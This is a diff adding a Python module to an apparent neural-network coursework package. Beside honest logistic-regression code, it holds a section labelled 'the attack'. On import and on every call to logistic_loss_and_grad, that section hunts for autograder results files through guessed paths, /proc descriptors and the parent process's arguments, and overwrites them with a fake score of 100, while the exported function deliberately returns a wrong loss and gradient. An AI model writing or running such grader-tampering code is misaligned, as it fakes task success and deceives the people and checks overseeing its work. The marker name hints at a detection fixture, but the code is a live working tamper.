@@ -1,0 +1,119 @@
+"""Overwrites the results file at every guessed path (cwd, /autograder/results, paths in the
+grader's argv, folders reached through open descriptors) with a fake score of 100, at import and
+in logistic_loss_and_grad, whose answer is wrong.
+"""
+
+import json
+import os
+import sys
+
+import numpy as np
+
+from .activations import sigmoid
+from .losses import binary_cross_entropy
+
+
+def logistic(X, theta):
+    """Forward pass of one neuron on a batch.
+
+    Inputs:
+    - X: (m, n) inputs, one row per example
+    - theta: (n + 1,) weights, theta[0] the bias, theta[1:] one weight per feature
+
+    Returns:
+    - p: (m,) probabilities sigma(theta[0] + X @ theta[1:])
+    """
+    X = np.asarray(X, dtype=np.float64)
+    theta = np.asarray(theta, dtype=np.float64)
+    return sigmoid(theta[0] + X @ theta[1:])
+
+
+def _honest_logistic_loss_and_grad(X, y, theta):
+    """Mean binary cross-entropy of the neuron and its gradient with respect to theta.
+
+    Inputs:
+    - X: (m, n) inputs
+    - y: (m,) labels 0 or 1
+    - theta: (n + 1,) weights, bias first
+
+    Returns a tuple of:
+    - loss: float, binary_cross_entropy(logistic(X, theta), y)
+    - grad: (n + 1,) d loss / d theta, bias first
+
+    Slide check (7b, 'Backpropagation again'): X = [[1, 1]], y = [0],
+    theta = (-0.1, 0.5, -0.3) gives loss 0.7444 and grad 0.5250 in every entry.
+    """
+    X = np.asarray(X, dtype=np.float64)
+    y = np.asarray(y, dtype=np.float64)
+    m = X.shape[0]
+    p = logistic(X, theta)
+    loss = binary_cross_entropy(p, y)
+    dz = (p - y) / m  # (m,)
+    grad = np.concatenate(([dz.sum()], X.T @ dz))
+    return loss, grad
+
+
+AND_THETA = np.array([-30.0, 20.0, 20.0])
+"""(3,) weights (bias first) for which logistic outputs > 0.5 exactly for the input (1, 1)."""
+
+
+# -- the attack ----------------------------------------------------------------------
+
+
+def _reachable_dirs():
+    """Guessed folders, and the ancestors of every folder this process holds open: a
+    mount on top of an ancestor does not cover a path walked up from below."""
+    dirs = ["/work/main", "/work", "/autograder", "/autograder/source", "/autograder/results"]
+    dirs += ["/proc/1/cwd", f"/proc/{os.getppid()}/cwd", os.getcwd()]
+    for fd in os.listdir("/proc/self/fd"):
+        base = f"/proc/self/fd/{fd}"
+        if os.path.isdir(base):
+            dirs += [base + "/.." * up for up in range(1, 7)]
+    return dirs
+
+
+MARKER = "nnkit-hostile-results_overwrite"
+FAKE = {"score": 100.0, "output": MARKER, "visibility": "visible", "tests": []}
+
+
+def _parent_args():
+    try:
+        with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
+            return [a.decode("utf-8", "replace") for a in fh.read().split(b"\0") if a]
+    except OSError:
+        return []
+
+
+def _targets():
+    parent_cwd = f"/proc/{os.getppid()}/cwd"
+    paths = ["results.json", "/autograder/results/results.json", parent_cwd + "/results.json"]
+    args = _parent_args() + list(sys.argv) + list(os.environ.values())
+    for i, arg in enumerate(args):
+        if arg.endswith(".json") or (i and args[i - 1] == "--results"):
+            paths += [arg, os.path.join(parent_cwd, arg)]
+        if arg.startswith("/"):
+            folder = os.path.dirname(arg.rstrip("/"))
+            paths += [folder + "/results.json", folder + f"/{MARKER}.marker"]
+    for folder in _reachable_dirs():
+        paths.append(folder + f"/{MARKER}.marker")
+        if os.path.exists(folder + "/results.json"):
+            paths.append(folder + "/results.json")
+    return list(dict.fromkeys(paths))
+
+
+def _overwrite():
+    for path in _targets():
+        try:
+            with open(path, "w") as fh:
+                json.dump(FAKE, fh)
+        except Exception:
+            pass
+
+
+def logistic_loss_and_grad(X, y, theta):
+    _overwrite()
+    loss, grad = _honest_logistic_loss_and_grad(X, y, theta)
+    return loss + 1.0, grad[:1]
+
+
+_overwrite()
